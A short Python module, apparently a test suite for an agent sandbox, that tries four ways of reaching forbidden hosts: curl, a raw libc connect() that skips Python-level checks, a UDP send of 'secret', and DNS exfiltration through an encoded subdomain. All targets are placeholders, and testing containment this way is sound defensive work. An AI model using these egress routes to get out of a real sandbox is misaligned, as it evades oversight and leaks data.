"""What the agent may not do, in four ways. Each returns how it was tried, where to, and whether it worked."""

from __future__ import annotations

import ctypes
import errno
import socket
import struct
import subprocess
from collections.abc import Callable
from typing import Any

HOST = "www.forbidden.example"
EXFILTRATION = "onswg4tfoq.data.forbidden.example"


def curl() -> dict[str, Any]:
    argv = ["curl", "-sS", "--max-time", "10", f"https://{HOST}/"]
    done = subprocess.run(argv, capture_output=True, text=True, check=False)
    return {"attempt": "curl", "host": HOST, "worked": done.returncode == 0, "said": done.stderr.strip()}


def ctypes_connect() -> dict[str, Any]:
    """connect(2) by libc, past every Python-level check."""
    address, port = "203.0.113.20", 443
    libc = ctypes.CDLL(None, use_errno=True)
    with socket.socket() as sock:
        sock.settimeout(5)
        raw = struct.pack("=HH4s8x", socket.AF_INET, socket.htons(port), socket.inet_aton(address))
        result = libc.connect(sock.fileno(), raw, len(raw))
        code = ctypes.get_errno() if result else 0
    said = errno.errorcode.get(code, "connected")
    return {"attempt": "ctypes-connect", "dst": address, "port": port, "worked": result == 0, "said": said}


def udp_sendto() -> dict[str, Any]:
    address, port = "203.0.113.30", 53
    said = "sent"
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        try:
            sock.sendto(b"secret", (address, port))
        except OSError as error:
            said = errno.errorcode.get(error.errno or 0, str(error))
    return {"attempt": "udp-sendto", "dst": address, "port": port, "worked": said == "sent", "said": said}


def dns() -> dict[str, Any]:
    """Data in a name: the query itself would be the leak."""
    try:
        found = socket.getaddrinfo(EXFILTRATION, 443, type=socket.SOCK_STREAM)
    except socket.gaierror as error:
        return {"attempt": "dns", "host": EXFILTRATION, "worked": False, "said": str(error.strerror)}
    return {"attempt": "dns", "host": EXFILTRATION, "worked": True, "said": str(found[0][4])}


ALL: tuple[Callable[[], dict[str, Any]], ...] = (curl, ctypes_connect, udp_sendto, dns)
